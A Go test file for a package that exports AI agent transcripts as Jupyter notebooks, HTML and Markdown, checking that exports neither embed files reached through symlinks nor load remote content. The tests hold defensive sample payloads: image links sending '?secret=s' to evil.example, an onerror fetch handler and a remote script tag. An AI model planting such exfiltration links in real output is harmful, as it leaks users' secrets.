package notebook

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/text"
)

func TestReadWriteRoundTrip(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("..", "testdata", "notebooks", "analysis.ipynb"))
	if err != nil {
		t.Fatal(err)
	}
	nb, err := Read(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	if len(nb.Cells) != 4 || nb.Cells[0].Source != "# Temperatures\n\nA small analysis." || nb.Cells[3].Outputs[0].Text != "21\n" || *nb.Cells[3].ExecutionCount != 2 {
		t.Fatalf("read %+v", nb.Cells)
	}
	out, err := nb.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	again, err := Read(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(nb, again) {
		t.Errorf("round trip changed the notebook:\n%s", out)
	}
	// Jupyter's own layout: one-space indent, sorted keys, final newline,
	// so a notebook read and written again compares equal to its source.
	if !bytes.Equal(out, raw) && !bytes.Equal(bytes.TrimSpace(out), bytes.TrimSpace(raw)) {
		t.Errorf("written differently from Jupyter:\n%s", out)
	}
}

func TestMarshalFollowsTheSchema(t *testing.T) {
	n := 3
	nb := New()
	nb.Cells = []Cell{
		{ID: "m", CellType: Markdown, Source: "# A"},
		{ID: "c", CellType: Code, Source: "1+1\nprint(2)", ExecutionCount: &n, Outputs: []Output{
			{OutputType: ExecuteResult, ExecutionCount: &n, Data: map[string]string{"text/plain": "2"}},
			{OutputType: Error, Ename: "E", Evalue: "v"},
		}},
		{ID: "never", CellType: Code, Source: ""},
	}
	raw, err := nb.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Cells []map[string]json.RawMessage `json:"cells"`
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	md, code, never := doc.Cells[0], doc.Cells[1], doc.Cells[2]
	if _, ok := md["outputs"]; ok {
		t.Error("a markdown cell has outputs")
	}
	if _, ok := md["execution_count"]; ok {
		t.Error("a markdown cell has an execution count")
	}
	compact := func(raw json.RawMessage) string {
		var b bytes.Buffer
		_ = json.Compact(&b, raw)
		return b.String()
	}
	if compact(code["source"]) != `["1+1\n","print(2)"]` {
		t.Errorf("source %s", code["source"])
	}
	if compact(never["execution_count"]) != "null" || compact(never["outputs"]) != "[]" || compact(never["source"]) != "[]" {
		t.Errorf("a cell that never ran: %s %s %s", never["execution_count"], never["outputs"], never["source"])
	}
	if !bytes.Contains(raw, []byte(`"traceback": []`)) {
		t.Errorf("an error output needs its traceback list:\n%s", raw)
	}
}

func TestReadErrors(t *testing.T) {
	for name, c := range map[string]struct{ doc, want string }{
		"not json":     {"hello", "not JSON"},
		"no nbformat":  {`{"cells": []}`, "not a Jupyter notebook"},
		"version 3":    {`{"nbformat": 3, "worksheets": []}`, "nbformat 3 is not supported"},
		"bad cell":     {`{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "weird", "metadata": {}, "source": ""}]}`, `cell 1 has the unknown type "weird"`},
		"bad source":   {`{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": 3}]}`, "want a string or a list of strings"},
		"byte order":   {"\xef\xbb\xbf{\"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {}, \"cells\": []}", ""},
		"string lines": {`{"nbformat": 4, "nbformat_minor": 0, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": "a\nb", "outputs": [], "execution_count": null}]}`, ""},
	} {
		_, err := Read(strings.NewReader(c.doc))
		if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%s: %v, want %q", name, err, c.want)
		}
	}
}

func TestSplitError(t *testing.T) {
	for _, c := range []struct {
		out, before, ename, evalue string
	}{
		{"printed\n---------------------------------------------------------------------------\nValueError                                Traceback (most recent call last)\nCell In[1], line 1\n----> 1 raise ValueError('boom')\nValueError: boom\n", "printed\n", "ValueError", "boom"},
		{"  Cell In[4], line 1\n    def f(:\n          ^\nSyntaxError: invalid syntax", "", "SyntaxError", "invalid syntax"},
		{"a\nb\nError: execute: the kernel died", "a\nb\n", "Error", "execute: the kernel died"},
		{"Tool call rejected", "", "Error", "Tool call rejected"},
		{"KeyboardInterrupt", "", "KeyboardInterrupt", ""},
		{"x\n---------------------------------------------------------------------------\nZeroDivisionError  Traceback (most recent call last)\nZeroDivisionError: division by zero\n", "x\n", "ZeroDivisionError", "division by zero"},
	} {
		before, ename, evalue, tb := splitError(c.out)
		if before != c.before || ename != c.ename || evalue != c.evalue || len(tb) == 0 {
			t.Errorf("splitError(%q) = %q, %q, %q, %q", c.out, before, ename, evalue, tb)
		}
	}
}

func TestFence(t *testing.T) {
	for text, want := range map[string]string{"": "```", "a`b": "```", "```": "````", "x ````` y": "``````"} {
		if got := Fence(text); got != want {
			t.Errorf("Fence(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestSegments(t *testing.T) {
	got := segments("before\n![image](/tmp/a.png)\nmiddle\n![image](b c.png)\n")
	want := []segment{{text: "before\n"}, {image: "/tmp/a.png"}, {text: "middle\n"}, {image: "b c.png"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("segments %+v", got)
	}
}

// An image whose file is gone stays a line of text; the export does not
// fail.
func TestMissingImage(t *testing.T) {
	tr := &Transcript{Dir: t.TempDir(), Entries: []Entry{{Kind: KindCode, Code: "show()", Output: "![image](images/gone.png)\ndone\n"}}}
	nb := tr.Notebook(Options{})
	outs := nb.Cells[0].Outputs
	if len(outs) != 1 || outs[0].OutputType != Stream || outs[0].Text != "![image](images/gone.png)\ndone\n" {
		t.Errorf("outputs %+v", outs)
	}
	html, err := tr.HTML(Options{})
	if err != nil || !strings.Contains(html, "images/gone.png (file not found)") {
		t.Errorf("html %v %q", err, html)
	}
}

// The files line cannot be broken out of by a file's name.
func TestFilesLine(t *testing.T) {
	got := filesLine([]FileChange{{Path: "a`b\n# not a heading.txt", Status: "added"}, {Path: "c.csv", Status: "deleted"}})
	if want := "*Files changed: `a'b # not a heading.txt` (added), `c.csv` (deleted)*"; got != want {
		t.Errorf("filesLine = %q, want %q", got, want)
	}
	if filesLine(nil) != "" {
		t.Error("a line for no files")
	}
}

// Exports load nothing remote and embed only images of the workspace
// reached without following a link: sandboxed code that links
// images/x.svg to ../.env and prints ![image](images/x.svg) embeds
// nothing, nor does a path outside the workspace or a folder swapped for
// a link; a remote image in an answer becomes a link.
func TestExportEmbedsOnlyWorkspaceImages(t *testing.T) {
	base := t.TempDir()
	ws := filepath.Join(base, "ws")
	secret := "KEY=sk-export-secret"
	for name, data := range map[string]string{"ws/.env": secret, "ws/images/ok.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>", "outside/o.png": secret, "ws/real/p.png": secret} {
		p := filepath.Join(base, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{"ws/images/x.svg": "../.env", "ws/dirlink": "real", "ws/images/out.png": "../../outside/o.png"} {
		if err := os.Symlink(target, filepath.Join(base, link)); err != nil {
			t.Fatal(err)
		}
	}
	out := "![image](images/x.svg)\n![image](dirlink/p.png)\n![image](images/out.png)\n![image](../outside/o.png)\n![image](" + filepath.Join(base, "outside", "o.png") + ")\n![image](images/ok.svg)\n![image](//evil.example/o)\n"
	tr := &Transcript{Dir: ws, Entries: []Entry{
		{Kind: KindAnswer, Text: "See ![leak](http://evil.example/x?secret=s) and ![p](//evil.example/y)"},
		{Kind: KindThought, Text: "![t](https://evil.example/t)"},
		{Kind: KindAnswer, Text: "Inline <img src=\"http://evil.example/h?secret=s\" alt=\"h\"> and\n\n<div><img srcset=\"//evil.example/b 2x\"></div>"},
		{Kind: KindCode, Code: "show()", Output: out},
	}}
	page, err := tr.HTML(Options{Thoughts: true})
	if err != nil {
		t.Fatal(err)
	}
	raw, err := tr.Notebook(Options{Thoughts: true}).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	enc := base64.StdEncoding.EncodeToString([]byte(secret))
	for name, doc := range map[string]string{"html": page, "ipynb": string(raw)} {
		if strings.Contains(doc, secret) || strings.Contains(doc, enc) {
			t.Errorf("the %s export embeds a file reached through a link or outside the workspace", name)
		}
		if !strings.Contains(doc, base64.StdEncoding.EncodeToString([]byte("<svg xmlns='http://www.w3.org/2000/svg'/>"))) && !strings.Contains(doc, "<svg xmlns=") {
			t.Errorf("the %s export lacks the workspace's own image", name)
		}
	}
	var cells []string
	for _, c := range tr.Notebook(Options{Thoughts: true}).Cells {
		if c.CellType == Markdown {
			cells = append(cells, c.Source)
		}
	}
	for name, doc := range map[string]string{"ipynb": strings.Join(cells, "\n\n"), "markdown": tr.Markdown(Options{Thoughts: true})} {
		if what := loadsRemote(doc); what != "" {
			t.Errorf("the %s export loads %s:\n%s", name, what, doc)
		}
		for _, link := range []string{"[image: leak](http://evil.example/x?secret=s)", "[image: p](//evil.example/y)", "[image: t](https://evil.example/t)", `<a href="http://evil.example/h?secret=s">image: h</a>`, `<a href="//evil.example/b">image: </a>`} {
			if !strings.Contains(doc, link) {
				t.Errorf("the %s export lacks the link %s:\n%s", name, link, doc)
			}
		}
	}
	if strings.Contains(page, `<img alt="leak"`) || strings.Contains(page, `src="http`) || strings.Contains(page, `src="//`) {
		t.Errorf("the HTML export loads a remote image:\n%s", page)
	}
	if !strings.Contains(page, `<a href="http://evil.example/x?secret=s">image: leak</a>`) || !strings.Contains(page, "default-src 'none'") {
		t.Errorf("the remote image is not a link, or the page has no policy:\n%s", page)
	}
}

// loadsRemote names what in the Markdown doc would load from elsewhere
// when shown: an image with an address that is not a workspace path or a
// data: URL, or raw HTML with a tag that loads; "" if nothing.
func loadsRemote(doc string) string {
	src := []byte(doc)
	what := ""
	_ = ast.Walk(plainMD.Parser().Parse(text.NewReader(src)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		var raw []byte
		switch n := n.(type) {
		case *ast.Image:
			if d := string(n.Destination); remoteAddr(d) {
				what = "the image " + d
			}
		case *ast.RawHTML:
			raw = n.Segments.Value(src)
		case *ast.HTMLBlock:
			raw = n.Lines().Value(src)
		}
		if raw != nil {
			if _, changed := linkHTML(raw); changed {
				what = "the HTML " + string(raw)
			}
		}
		if what != "" {
			return ast.WalkStop, nil
		}
		return ast.WalkContinue, nil
	})
	return what
}

// Every image and loading tag becomes a link or text; data: images and
// harmless HTML stay as written.
func TestLinkRemote(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"![a](http://e.x/i.png)", "[image: a](http://e.x/i.png)"},
		{"![](//e.x/i)", "[image: ](//e.x/i)"},
		{"![a](<http://e.x/a b> \"t\")", "[image: a](<http://e.x/a b> \"t\")"},
		{"[![a](http://e.x/i)](http://e.x/page)", "[[image: a](http://e.x/i)](http://e.x/page)"},
		{"![a][r]\n\n[r]: http://e.x/i", "[image: a][r]\n\n[r]: http://e.x/i"},
		{"![a ![b](http://e.x/b)](http://e.x/a)", "[image: a [image: b](http://e.x/b)](http://e.x/a)"},
		{"> ![q](http://e.x/q)", "> [image: q](http://e.x/q)"},
		{"![d](data:image/png;base64,AA==)", "![d](data:image/png;base64,AA==)"},
		{"`![c](http://e.x/c)`", "`![c](http://e.x/c)`"},
		{"a <img src='http://e.x/i' alt='x<y'> b", `a <a href="http://e.x/i">image: x&lt;y</a> b`},
		{"<img src=\"data:image/png;base64,AA==\">", "<img src=\"data:image/png;base64,AA==\">"},
		{"<img src=\"data:image/png;base64,AA==\" onerror=\"fetch('//e.x')\">", "&lt;img src=&#34;data:image/png;base64,AA==&#34; onerror=&#34;fetch(&#39;//e.x&#39;)&#34;&gt;"},
		{"<div style=\"background:url(http://e.x/s)\">x</div>", "&lt;div style=&#34;background:url(http://e.x/s)&#34;&gt;x</div>"},
		{"<details><summary>Hi</summary>\n\n<b>x</b>\n\n</details>", "<details><summary>Hi</summary>\n\n<b>x</b>\n\n</details>"},
		{"<a href=\"http://e.x/\">ok</a>", "<a href=\"http://e.x/\">ok</a>"},
		{"<script src=\"http://e.x/s.js\"></script>", "&lt;script src=&#34;http://e.x/s.js&#34;&gt;&lt;/script&gt;"},
		{"<svg><image href=\"http://e.x/i\"/></svg>", "<svg>&lt;image href=&#34;http://e.x/i&#34;/&gt;</svg>"},
		{"<img\nsrc=\"http://e.x/ml\">", `<a href="http://e.x/ml">image: </a>`},
	} {
		got := linkRemote(tc.in)
		if got != tc.want {
			t.Errorf("linkRemote(%q)\n got %q\nwant %q", tc.in, got, tc.want)
		}
		if what := loadsRemote(got); what != "" {
			t.Errorf("linkRemote(%q) = %q still loads %s", tc.in, got, what)
		}
	}
}

// Whatever the Markdown, what linkRemote returns loads nothing.
func FuzzLinkRemote(f *testing.F) {
	for _, s := range []string{"![a](http://e.x/i)", "<img src=x>", "[![a](//e)](u)", "<div>\n<img\nsrc=//e>\n</div>", "> <img src=//e", "![a][r]\n\n[r]: //e"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := linkRemote(s)
		if what := loadsRemote(got); what != "" {
			t.Errorf("linkRemote(%q) = %q loads %s", s, got, what)
		}
	})
}
